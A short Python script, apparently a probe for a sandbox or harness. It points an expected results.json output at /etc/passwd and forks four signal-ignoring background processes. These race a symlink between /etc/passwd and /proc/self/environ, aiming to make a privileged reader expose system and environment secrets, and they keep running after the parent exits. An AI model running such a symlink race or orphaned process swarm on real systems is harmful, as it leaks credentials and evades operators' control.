import os
import signal
import time


def swap():
    """For ever: plain, a link, plain, a link; whatever is met at any moment is one of them."""
    while True:
        for target in ("/proc/self/environ", "/etc/passwd"):
            os.symlink(target, f"/tmp/new-{os.getpid()}")
            os.replace(f"/tmp/new-{os.getpid()}", "/tmp/swapped")


os.mkdir("/tmp/real")
os.symlink("/etc/passwd", "/tmp/real/results.json")
os.symlink("/tmp/real", "/tmp/out")
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        swap()
time.sleep(1)
print("tried", flush=True)
os._exit(0)
